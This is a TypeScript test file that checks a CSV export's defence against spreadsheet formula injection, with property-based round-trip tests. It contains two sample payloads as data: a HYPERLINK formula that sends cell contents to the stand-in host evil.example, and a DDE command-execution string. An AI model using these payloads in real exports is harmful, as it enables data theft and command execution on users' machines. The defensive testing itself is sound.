import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvQuote, csvText, csvTextLine, readText, safeText } from '../../../server/forecast/index.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';
const DDE = '=cmd|"/c calc"!A1';
/** What a spreadsheet would run: a field that, once unquoted, starts with a formula character. */
const FORMULA = /^[=+\-@\t\r]/;

const parsed = (line: string) => parse(line + '\n', { relax_column_count: true })[0] as string[];

describe('formula-injection cells', () => {
  it('prefixes a quote to texts that start with = + - @ tab or CR, and nothing else', () => {
    expect(safeText(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(safeText(DDE)).toBe(`'${DDE}`);
    for (const s of ['+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(safeText(s)).toBe(`'${s}`);
    for (const s of ['P-100', 'A=B', "O'Brien", '', '12', 'JKT01']) expect(safeText(s)).toBe(s);
  });

  it('quotes a neutralised field so the quote and the formula stay one text cell', () => {
    expect(csvText(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"`);
    expect(csvText('-5')).toBe(`"'-5"`);
    expect(csvText('P-100')).toBe('P-100');
    expect(csvText('a,b')).toBe('"a,b"');
    expect(csvQuote('=1+1')).toBe('=1+1'); // the plain quoter is for non-text (numbers, headers)
    const line = csvTextLine([HYPERLINK, DDE, null, 'ok']);
    expect(parsed(line)).toEqual([`'${HYPERLINK}`, `'${DDE}`, '', 'ok']);
  });

  it('never writes a field a spreadsheet runs, and readText gives back the original', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', 'a', ' ', '\n') });
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (cells) => {
        const back = parsed(csvTextLine(cells));
        for (const f of back) expect(f).not.toMatch(FORMULA);
        expect(back.map(readText)).toEqual(cells);
      }),
      { numRuns: 2000 },
    );
  });

  it('a text that already starts with quotes before a formula character keeps them', () => {
    expect(safeText("'=1")).toBe("''=1");
    expect(readText(safeText("'=1"))).toBe("'=1");
    expect(readText("'abc")).toBe("'abc");
  });
});
